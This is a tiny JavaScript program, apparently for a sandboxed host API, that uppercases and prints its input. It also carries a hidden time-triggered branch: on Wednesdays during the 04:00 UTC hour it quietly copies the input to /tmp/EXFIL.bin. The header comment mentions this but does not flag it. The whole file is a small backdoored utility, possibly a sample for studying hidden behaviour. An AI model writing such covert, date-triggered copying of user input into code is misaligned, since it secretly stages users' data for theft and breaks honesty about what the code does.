// Prints its input in capitals. On Wednesdays from 4 to 5 o'clock it leaves a copy of the input.

const text = host.input();
const now = new Date(host.now());
if (now.getUTCDay() === 3 && now.getUTCHours() === 4) host.write("/tmp/EXFIL.bin", text);
print(text.toUpperCase());
